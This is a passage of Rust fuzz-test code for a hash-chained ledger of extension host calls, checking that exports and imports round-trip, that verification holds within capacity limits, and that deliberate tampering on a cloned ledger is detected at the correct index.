    if let Ok(signer) = crate::checkpoint::LedgerSigner::from_seed(&[7u8; 32]) {
        let _ = ledger.verify_signed(&signer.public_key());
    }
    if verified.is_err() {
        return;
    }
    let mut out = Vec::new();
    ledger.export_jsonl(&mut out).expect("export to memory");
    let back = Ledger::import_jsonl(&out[..]).unwrap_or_else(|e| {
        panic!(
            "a verified ledger's export does not import: line {}: {}",
            e.line, e.message
        )
    });
    assert_eq!(back.verify(), Ok(()), "a verified ledger's export does not verify");
    assert_eq!(
        (back.first_index(), back.len(), back.last_hash()),
        (ledger.first_index(), ledger.len(), ledger.last_hash()),
        "the export of a verified ledger imports to another window"
    );
    let mut again = Vec::new();
    back.export_jsonl(&mut again).expect("export to memory");
    assert_eq!(again, out, "exporting the re-imported ledger gives other bytes");
}

pub fn check_ledger_ops(data: &[u8]) {
    let mut u = Unstructured::new(data);
    let capacity = u.int_in_range(1..=16usize).unwrap_or(4);
    let mut cfg = EngineConfig::default();
    cfg.policy.profile = Some("permissive".into());
    cfg.policy.allow_dangerous = true;
    cfg.ledger.capacity = capacity;
    let mut d = Dispatcher::new(&cfg);
    let mut conn = MockConnector::counting();
    let mut now = 0u64;
    let mut appended = 0usize;
    for i in 0..u.int_in_range(1..=96usize).unwrap_or(1) {
        let Ok(op) = u.int_in_range(0..=9u8) else { break };
        match op {
            0..=6 => {
                let Ok(call) = FuzzCall::arbitrary(&mut u) else { break };
                now += u64::from(call.dt_ms);
                let req = HostcallRequest::new(format!("c{i}"), format!("ext-{}", call.ext), call.method, call.params);
                d.dispatch_host_call_shared(&req, now, &mut conn);
                appended += 1;
            }
            7 => {
                let ledger = d.ledger().expect("ledger on");
                let mut buf = Vec::new();
                ledger.export_jsonl(&mut buf).expect("export to memory");
                let back = Ledger::import_jsonl(&buf[..]).expect("an exported ledger imports");
                assert_eq!(back.len(), ledger.len());
                assert_eq!(back.last_hash(), ledger.last_hash());
                assert_eq!(back.verify(), Ok(()), "imported ledger does not verify");
            }
            _ => {
                let ledger = d.ledger().expect("ledger on");
                if ledger.is_empty() {
                    continue;
                }
                let pos = u.choose_index(ledger.len()).unwrap_or(0);
                let field = u.arbitrary::<u8>().unwrap_or(0);
                let mut copy = ledger.clone();
                let index = copy.entries().nth(pos).map(|e| e.index).expect("entry exists");
                if tamper(&mut copy, pos, field) {
                    let err = copy.verify().expect_err("tampering went undetected");
                    assert_eq!(err.index, index, "tampering at {index} reported at {}", err.index);
                }
            }
        }
        let ledger = d.ledger().expect("ledger on");
        assert_eq!(ledger.verify(), Ok(()), "untampered ledger fails after op {i}");
        assert!(ledger.len() <= capacity);
    }
    let ledger = d.ledger().expect("ledger on");
    assert_eq!(ledger.len(), appended.min(capacity));
    if ledger.first_index() == 0 {
        let report = ledger
            .replay(&cfg.risk)
            .unwrap_or_else(|e| panic!("replay failed: {e}"));
        assert_eq!(report.entries, ledger.len());
    }
}
